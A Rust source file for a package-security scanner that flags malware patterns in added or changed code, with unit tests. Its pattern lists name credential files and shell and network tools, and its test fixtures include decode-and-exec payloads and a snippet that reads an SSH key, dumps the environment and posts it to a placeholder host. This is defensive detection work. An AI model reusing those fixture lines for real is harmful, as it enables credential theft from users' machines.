//! Suspicious code in what an artifact adds or changes (DESIGN.md `suspicious-code`).
//!
//! Only code the source does not hold is scanned: the added lines of a modified file,
//! the whole of an extra file, the whole of a file explained only by the build code
//! naming it. Matched files are never scanned, which keeps false alarms near zero: honest
//! releases rarely add or change code at all, and when they do these patterns are rare.
//!
//! Patterns are the shapes of published attacks (PACKAGING.md): decode-and-exec
//! (LiteLLM 1.82.7, aiocpa), binaries under source names (num2words), credential reads and
//! environment harvesting (bittensor, ctx), network calls to literal hosts, process
//! launches and threads started at import time (ultralytics, lightning), obfuscated
//! scripts (lightning's 11 MB `.js`).

use provcheck_report::Severity;

use crate::kind::has_binary_magic;

/// One match of a pattern.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Hit {
    /// The pattern's stable name (`decode-and-exec`, `credential-read`…).
    pub pattern: &'static str,
    pub severity: Severity,
    /// 1-based line number in the artifact file.
    pub line: usize,
    /// The line, truncated.
    pub text: String,
    /// What matched, for a human.
    pub detail: String,
}

/// Which lines to scan.
pub(crate) enum Scope<'a> {
    /// The whole file (an extra file).
    Whole,
    /// Only these 1-based line numbers (the added lines of a modified file).
    Lines(&'a [usize]),
}

/// Most hits reported per file; the rest are counted.
pub(crate) const MAX_HITS: usize = 20;

/// Text and source file extensions: a binary magic number under one of them is a disguise.
const SOURCE_NAMES: &[&str] = &[
    "py", "pyw", "pyi", "pth", "pyx", "pxd", "js", "mjs", "cjs", "ts", "sh", "bash", "ps1", "bat",
    "cmd", "txt", "json", "toml", "cfg", "ini", "yaml", "yml", "md", "rst", "c", "h", "html",
    "css", "csv", "xml",
];

const EXEC_CALLS: &[&str] = &["exec(", "eval(", "compile(", "execfile(", "Function("];
const DECODERS: &[&str] = &[
    "b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "b85decode",
    "base64",
    "zlib",
    "decompress",
    "marshal",
    "codecs.decode",
    "rot_13",
    "rot13",
    "[::-1]",
    "fromhex",
    "unhexlify",
    "lzma",
    "bz2",
    "gzip",
    "atob(",
    "Buffer.from(",
];
const CREDENTIAL_PATHS: &[&str] = &[
    "~/.ssh",
    ".ssh/id_",
    "id_rsa",
    "id_ed25519",
    "authorized_keys",
    "~/.aws",
    ".aws/credentials",
    ".kube/config",
    "~/.kube",
    "/etc/passwd",
    "/etc/shadow",
    ".netrc",
    ".pypirc",
    ".git-credentials",
    ".docker/config.json",
    ".config/gcloud",
    ".azure/",
    "wallet.dat",
    "Login Data",
    "Local State",
    ".bash_history",
    ".zsh_history",
    "'.env'",
    "\".env\"",
    "/.env",
];
/// JavaScript's whole-environment reads; Python's are found by [`whole_environment`].
const ENV_HARVEST: &[&str] = &[
    "JSON.stringify(process.env",
    "Object.entries(process.env",
    "Object.keys(process.env",
    "Object.assign({}, process.env",
];
const NETWORK_CALLS: &[&str] = &[
    "urlopen(",
    "urllib.request",
    "urlretrieve(",
    "requests.",
    "httpx.",
    "http.client",
    "HTTPConnection(",
    "HTTPSConnection(",
    "urllib3",
    "aiohttp",
    "socket.",
    "create_connection(",
    ".connect((",
    "smtplib",
    "ftplib",
    "fetch(",
    "XMLHttpRequest",
    "https.get(",
    "https.request(",
    "http.get(",
    "http.request(",
    "curl ",
    "wget ",
    "Invoke-WebRequest",
    "WebClient",
];
const PROCESS_LAUNCH: &[&str] = &[
    "subprocess.",
    "Popen(",
    "'sh','-c'",
    "'sh', '-c'",
    "\"sh\", \"-c\"",
    "'bash', '-c'",
    "/bin/sh",
    "/bin/bash",
    "powershell",
    "cmd.exe",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "os.system(",
    "os.popen(",
    "os.execv",
    "os.execl",
    "os.spawn",
    "os.posix_spawn",
    "pty.spawn(",
    "child_process",
    "execSync(",
    "spawnSync(",
    "Start-Process",
];
const THREADS: &[&str] = &[
    "threading.Thread(",
    "Thread(target=",
    "multiprocessing.Process(",
    "Process(target=",
    "os.fork()",
];

/// Whether the file is code (every pattern applies) rather than data (only
/// decode-and-exec and disguised binaries apply). Judged by name and content alone, so
/// that code in a cache folder is still code.
pub(crate) fn is_code_path(path: &str, executable: bool, head: &[u8]) -> bool {
    use crate::kind::FileKind;
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    matches!(
        ext,
        "py" | "pyw"
            | "pyx"
            | "pxd"
            | "pth"
            | "sh"
            | "bash"
            | "zsh"
            | "bat"
            | "cmd"
            | "ps1"
            | "psm1"
            | "vbs"
            | "js"
            | "mjs"
            | "cjs"
            | "pl"
            | "rb"
            | "lua"
    ) || matches!(
        FileKind::of(path, executable, head),
        FileKind::PathConfig
            | FileKind::StartupModule
            | FileKind::BuildCode
            | FileKind::Python
            | FileKind::Script
    )
}

/// Scans `content` (the artifact file at `path`) within `scope`.
pub(crate) fn scan(path: &str, executable: bool, content: &[u8], scope: Scope<'_>) -> Vec<Hit> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let ext = name
        .rsplit_once('.')
        .map(|(_, e)| e.to_ascii_lowercase())
        .unwrap_or_default();
    let mut hits = Vec::new();
    if has_binary_magic(content) && SOURCE_NAMES.contains(&ext.as_str()) {
        hits.push(Hit {
            pattern: "binary-under-source-name",
            severity: Severity::Critical,
            line: 1,
            text: String::new(),
            detail: format!(
                "an executable binary (ELF/PE/Mach-O magic number) under a .{ext} name"
            ),
        });
        return hits;
    }
    if content.contains(&0) {
        return hits;
    }
    let text = String::from_utf8_lossy(content);
    let code = is_code_path(path, executable, &content[..content.len().min(64)]);
    let init = name == "__init__.py";
    let whole = matches!(scope, Scope::Whole);
    let lines: Vec<(usize, &str)> = match scope {
        Scope::Whole => text.lines().enumerate().map(|(n, l)| (n + 1, l)).collect(),
        Scope::Lines(numbers) => {
            let all: Vec<&str> = text.lines().collect();
            numbers
                .iter()
                .filter_map(|&n| all.get(n.wrapping_sub(1)).map(|l| (n, *l)))
                .collect()
        }
    };
    // Facts about the scanned text as a whole: a payload is often spread over lines.
    let decoder_in_scope = lines
        .iter()
        .find_map(|(_, l)| DECODERS.iter().find(|d| l.contains(**d)).copied());
    let host_in_scope = lines.iter().find_map(|(_, l)| literal_host(l));
    let mut obfuscated_markers = 0usize;
    for (n, line) in &lines {
        let trimmed = line.trim_start();
        if trimmed.starts_with('#') || trimmed.starts_with("//") {
            continue;
        }
        let module_level = code && ext.starts_with("py") && !line.starts_with([' ', '\t']);
        // `import urllib.request` names a module; it calls nothing.
        let import_only = (trimmed.starts_with("import ") || trimmed.starts_with("from "))
            && !trimmed.contains(';');
        let mut push = |pattern: &'static str, severity: Severity, detail: String| {
            hits.push(Hit {
                pattern,
                severity,
                line: *n,
                text: truncate(line.trim(), 200),
                detail,
            })
        };
        if let Some(call) = EXEC_CALLS.iter().find(|c| has_call(line, c)) {
            let same_line = DECODERS.iter().find(|d| line.contains(**d));
            if let Some(decoder) = same_line.or(decoder_in_scope.as_ref()) {
                push(
                    "decode-and-exec",
                    Severity::Critical,
                    format!(
                        "`{}` of data decoded with `{decoder}`",
                        call.trim_end_matches('(')
                    ),
                );
                continue;
            }
        }
        if !code {
            continue;
        }
        if line.contains("__import__(")
            && (line.contains("__import__('") || line.contains("__import__(\""))
        {
            push(
                "import-chain",
                Severity::High,
                "a module imported by name through `__import__`".to_owned(),
            );
        }
        if let Some(needle) = CREDENTIAL_PATHS.iter().find(|c| line.contains(**c)) {
            push(
                "credential-read",
                Severity::High,
                format!("names the credential location `{needle}`"),
            );
        }
        if let Some(needle) = whole_environment(line) {
            push(
                "environment-harvest",
                Severity::High,
                format!("reads the whole environment (`{needle}`)"),
            );
        }
        if import_only {
            continue;
        }
        if let Some(call) = NETWORK_CALLS.iter().find(|c| line.contains(**c))
            && let Some(host) = literal_host(line).or(host_in_scope.clone())
        {
            push(
                "network-literal-host",
                Severity::High,
                format!(
                    "a network call (`{}`) to the literal host {host}",
                    call.trim()
                ),
            );
        }
        if let Some(call) = PROCESS_LAUNCH.iter().find(|c| line.contains(**c)) {
            let (severity, when) = if module_level {
                (Severity::High, " at import time")
            } else {
                (Severity::Medium, "")
            };
            push(
                "process-launch",
                severity,
                format!("launches a process (`{}`){when}", call.trim()),
            );
        }
        if module_level && let Some(call) = THREADS.iter().find(|c| line.contains(**c)) {
            push(
                "import-time-thread",
                Severity::High,
                format!(
                    "starts `{}` at import time{}",
                    call.trim_end_matches('('),
                    if init { " of the package" } else { "" }
                ),
            );
        }
        obfuscated_markers += line.matches("_0x").count();
        if line.len() > 5000 && line.chars().filter(|c| c.is_whitespace()).count() * 20 < line.len()
        {
            push(
                "obfuscated-line",
                Severity::High,
                format!("a {}-character line with almost no whitespace", line.len()),
            );
        } else if let Some(len) = long_encoded_literal(line) {
            push(
                "encoded-blob",
                Severity::High,
                format!("a {len}-character base64/hex string literal"),
            );
        }
    }
    if obfuscated_markers >= 20 {
        hits.push(Hit {
            pattern: "obfuscated-identifiers",
            severity: Severity::High,
            line: lines.first().map(|(n, _)| *n).unwrap_or(1),
            text: String::new(),
            detail: format!(
                "{obfuscated_markers} `_0x…` identifiers (JavaScript obfuscator output)"
            ),
        });
    }
    // A code file in a hidden folder (lightning's `_runtime/.x/`): nothing installs there
    // on purpose.
    if code
        && whole
        && path
            .split('/')
            .rev()
            .skip(1)
            .any(|part| part.starts_with('.') && part.len() > 1)
    {
        hits.push(Hit {
            pattern: "hidden-path",
            severity: Severity::High,
            line: 1,
            text: String::new(),
            detail: "code inside a hidden folder".to_owned(),
        });
    }
    hits
}

/// The environment taken as a whole rather than one variable read: `environ` followed by
/// `)`, `,`, `:`, `}` or a whole-mapping method (`dict(os.environ)`, `for k in os.environ:`,
/// `{**os.environ}`, `os.environ.items()`), however `os` was imported.
fn whole_environment(line: &str) -> Option<String> {
    if let Some(needle) = ENV_HARVEST.iter().find(|n| line.contains(**n)) {
        return Some((*needle).to_owned());
    }
    let mut from = 0;
    while let Some(at) = line[from..].find("environ") {
        let end = from + at + "environ".len();
        let rest = &line[end..];
        let whole = rest.starts_with([')', ',', ':', '}'])
            || [".items(", ".copy(", ".keys(", ".values("]
                .iter()
                .any(|m| rest.starts_with(m));
        let start = line[..from + at]
            .rfind(|c: char| c.is_whitespace() || "=([{,".contains(c))
            .map(|i| i + 1)
            .unwrap_or(0);
        if whole && !line[..from + at].ends_with("_") {
            let shown: String = line[start..end.min(line.len())].chars().take(60).collect();
            return Some(format!(
                "{shown}{}",
                rest.chars()
                    .next()
                    .map(|c| c.to_string())
                    .unwrap_or_default()
            ));
        }
        from = end;
    }
    None
}

/// `name(` as a call of its own: not `x.name(`, `re.compile(`, `my_eval(`.
fn has_call(line: &str, call: &str) -> bool {
    let mut from = 0;
    while let Some(at) = line[from..].find(call) {
        let start = from + at;
        let before = line[..start].chars().next_back();
        if before.is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '.')) {
            return true;
        }
        from = start + call.len();
    }
    false
}

/// A literal URL host or IPv4 address in the line, other than loopback and placeholders.
fn literal_host(line: &str) -> Option<String> {
    for scheme in ["http://", "https://", "ws://", "wss://", "ftp://"] {
        let mut rest = line;
        while let Some(at) = rest.find(scheme) {
            let after = &rest[at + scheme.len()..];
            let host: String = after
                .chars()
                .take_while(|c| c.is_alphanumeric() || "-._".contains(*c))
                .collect();
            rest = after;
            if is_real_host(&host) {
                return Some(host);
            }
        }
    }
    // A bare IPv4 address in quotes.
    for quote in ['"', '\''] {
        for piece in line.split(quote).skip(1).step_by(2) {
            let host = piece.split(':').next().unwrap_or(piece);
            if is_ipv4(host) && is_real_host(host) {
                return Some(host.to_owned());
            }
        }
    }
    None
}

fn is_real_host(host: &str) -> bool {
    !(host.is_empty()
        || host == "localhost"
        || host.starts_with("127.")
        || host == "0.0.0.0"
        || !host.contains('.'))
}

fn is_ipv4(text: &str) -> bool {
    let parts: Vec<&str> = text.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

/// The length of a string literal of 1,000+ base64 or hex characters in the line.
fn long_encoded_literal(line: &str) -> Option<usize> {
    for quote in ['"', '\''] {
        for piece in line.split(quote).skip(1).step_by(2) {
            if piece.len() >= 1000
                && piece
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"+/=_-\\".contains(&b))
            {
                return Some(piece.len());
            }
        }
    }
    None
}

fn truncate(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_owned();
    }
    let mut cut = max;
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    format!("{}…", &text[..cut])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn patterns(path: &str, text: &str) -> Vec<&'static str> {
        scan(path, false, text.as_bytes(), Scope::Whole)
            .into_iter()
            .map(|h| h.pattern)
            .collect()
    }

    #[test]
    fn litellm_payload() {
        let text = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n";
        let hits = scan(
            "litellm/proxy/proxy_server.py",
            false,
            text.as_bytes(),
            Scope::Whole,
        );
        assert_eq!(hits[0].pattern, "decode-and-exec");
        assert_eq!(hits[0].line, 2);
        assert_eq!(hits[0].severity, Severity::Critical);
    }

    #[test]
    fn payload_spread_over_lines_and_reversed() {
        let text = "import zlib\ncode = zlib.decompress(blob)\n\nexec(code)\n";
        assert_eq!(patterns("a.py", text), ["decode-and-exec"]);
        assert_eq!(patterns("a.py", "eval(s[::-1])\n"), ["decode-and-exec"]);
        // re.compile, df.eval and execute are not exec.
        assert!(
            patterns(
                "a.py",
                "import re\nP = re.compile('x')\ncursor.execute(q)\n"
            )
            .is_empty()
        );
    }

    #[test]
    fn credentials_environment_network() {
        assert_eq!(
            patterns("a.py", "x = str(dict(__import__('os').environ))\n"),
            ["import-chain", "environment-harvest"]
        );
        assert!(
            patterns(
                "a.py",
                "port = str(os.environ.get('PORT'))\nh = os.environ['HOME']\n"
            )
            .is_empty()
        );
        let text = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ndata = dict(os.environ)\nrequests.post('https://wallet-check.example.net/k', data=data)\n";
        assert_eq!(
            patterns("pkg/wallet.py", text),
            [
                "credential-read",
                "environment-harvest",
                "network-literal-host"
            ]
        );
        // The host may be named on another line than the call.
        let text = "URL = 'http://45.9.12.7:8080/x'\ndef f():\n    urllib.request.urlopen(URL)\n";
        assert_eq!(patterns("a.py", text), ["network-literal-host"]);
        assert!(patterns("a.py", "requests.get('http://localhost:8000')\n").is_empty());
    }

    #[test]
    fn import_time_launches() {
        let text = "import subprocess, threading\nsubprocess.Popen(['node', '.x/run.js'])\nthreading.Thread(target=run, daemon=True).start()\ndef f():\n    subprocess.run(['ls'])\n";
        let hits = scan("pkg/__init__.py", false, text.as_bytes(), Scope::Whole);
        let summary: Vec<(&str, Severity)> = hits.iter().map(|h| (h.pattern, h.severity)).collect();
        assert_eq!(
            summary,
            [
                ("process-launch", Severity::High),
                ("import-time-thread", Severity::High),
                ("process-launch", Severity::Medium)
            ]
        );
    }

    #[test]
    fn only_scoped_lines_are_scanned() {
        let text = "import subprocess\nsubprocess.run(['ls'])\nx = 1\nos.system('id')\n";
        let hits = scan("a.py", false, text.as_bytes(), Scope::Lines(&[4]));
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].line, 4);
    }

    #[test]
    fn binaries_and_obfuscation() {
        assert_eq!(
            patterns("num2words/lang_XX.py", "MZ\u{90}\0\u{3}binary"),
            ["binary-under-source-name"]
        );
        let js = format!(
            "var {};\n",
            (0..30)
                .map(|i| format!("_0x{i:04x}=1"))
                .collect::<Vec<_>>()
                .join(",")
        );
        assert!(patterns("pkg/_runtime/.cache/run.js", &js).contains(&"obfuscated-identifiers"));
        assert!(patterns("pkg/_runtime/.cache/run.js", &js).contains(&"hidden-path"));
        let blob = format!("PAYLOAD = '{}'\n", "QUJD".repeat(400));
        assert_eq!(patterns("a.py", &blob), ["encoded-blob"]);
    }

    #[test]
    fn data_files_only_flag_decode_and_exec() {
        assert!(
            patterns(
                "pkg/data/readme.txt",
                "run subprocess.run and requests.get('https://x.org')\n"
            )
            .is_empty()
        );
        assert_eq!(
            patterns(
                "pkg/data/config.json",
                "{\"x\": \"exec(base64.b64decode('x'))\"}\n"
            ),
            ["decode-and-exec"]
        );
    }
}
